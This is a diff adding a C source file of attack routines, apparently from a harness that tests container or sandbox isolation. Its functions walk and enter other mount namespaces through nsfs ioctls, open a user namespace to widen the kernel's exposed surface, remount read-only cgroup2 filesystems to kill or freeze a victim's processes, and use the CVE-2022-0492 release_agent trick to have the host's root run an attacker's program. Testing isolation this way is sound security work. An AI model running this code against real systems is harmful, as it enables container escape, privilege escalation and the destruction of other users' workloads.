@@ -1,0 +1,132 @@
+// SPDX-License-Identifier: MIT
+/* Namespaces of others, and more of the attacker's own. */
+#include "attack.h"
+
+#include <sched.h>
+#include <stdint.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+
+/* <linux/nsfs.h> of Linux 6.12 */
+struct mnt_ns_info {
+	uint32_t size;
+	uint32_t nr_mounts;
+	uint64_t mnt_ns_id;
+};
+#define GET_NEXT _IOR(0xb7, 11, struct mnt_ns_info)
+#define GET_PREV _IOR(0xb7, 12, struct mnt_ns_info)
+
+/* In a child, since a mount namespace once left may be out of reach. */
+static void enter_and_look(int ns, const char *how)
+{
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		if (setns(ns, CLONE_NEWNS) == 0) {
+			printf("entered %s\n", how);
+			look_in("/");
+		}
+		_exit(0);
+	}
+	if (pid > 0)
+		waitpid(pid, NULL, 0);
+}
+
+static void walk(unsigned long request, const char *how)
+{
+	int ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC), next;
+	struct mnt_ns_info info = { .size = sizeof(info) };
+
+	for (int i = 0; i < 1000 && ns >= 0; i++) {
+		next = ioctl(ns, request, &info);
+		if (next < 0 && i == 0)
+			printf("%s: %s\n", how, strerror(errno));
+		close(ns);
+		ns = next;
+		if (ns >= 0)
+			enter_and_look(ns, how);
+	}
+	if (ns >= 0)
+		close(ns);
+}
+
+static void try_walks(void)
+{
+	walk(GET_PREV, "NS_MNT_GET_PREV");
+	walk(GET_NEXT, "NS_MNT_GET_NEXT");
+}
+
+/* The same once more from a mount namespace of the attacker's own, which is the youngest then. */
+void attack_neighbours(char **args)
+{
+	(void)args;
+	try_walks();
+	if (unshare(CLONE_NEWNS) == 0)
+		try_walks();
+}
+
+/*
+ * A user namespace below this one: it gives the attacker all of the kernel's surface that needs
+ * capabilities. Two processes stay, one of them in it.
+ */
+void attack_userns(char **args)
+{
+	(void)args;
+	if (fork() == 0)
+		wait_for_judge();
+	if (unshare(CLONE_NEWUSER) < 0)
+		printf("unshare: %s\n", strerror(errno));
+	wait_for_judge();
+}
+
+/* ---- cgroups ---- */
+
+static void write_to(const char *directory, const char *file, const char *text)
+{
+	char path[4352];
+	int fd;
+
+	snprintf(path, sizeof(path), "%s/%s", directory, file);
+	fd = open(path, O_WRONLY | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	if (write(fd, text, strlen(text)) > 0)
+		printf("wrote %s\n", path);
+	close(fd);
+}
+
+/* Of a cgroup filesystem that is shown read-only: writable, then all that is in the victim's group is killed. */
+static void kill_group(const char *place, const char *group)
+{
+	char path[4352];
+
+	mount(NULL, place, NULL, MS_REMOUNT | MS_BIND, NULL);
+	snprintf(path, sizeof(path), "%s/%s", place, group);
+	write_to(path, "cgroup.kill", "1");
+	write_to(path, "cgroup.freeze", "1");
+}
+
+void attack_cgroup(char **args)
+{
+	char line[4096], place[4096], type[64];
+	FILE *mounts = fopen("/proc/self/mounts", "r");
+
+	while (mounts && fgets(line, sizeof(line), mounts))
+		if (sscanf(line, "%*s %4095s %63s", place, type) == 2 && strcmp(type, "cgroup2") == 0)
+			for (char **group = args; *group; group++)
+				kill_group(place, *group);
+	if (mounts)
+		fclose(mounts);
+	/* One of its own. */
+	mkdir("/tmp/cgroup", 0755);
+	if (mount("none", "/tmp/cgroup", "cgroup2", 0, NULL) == 0)
+		for (char **group = args; *group; group++)
+			kill_group("/tmp/cgroup", *group);
+	else
+		printf("mount cgroup2: %s\n", strerror(errno));
+	/* CVE-2022-0492: the host's root executes what is named here. */
+	if (mount("none", "/tmp/cgroup", "cgroup", 0, "pids") == 0)
+		write_to("/tmp/cgroup", "release_agent", "/mnt/img/agent");
+}
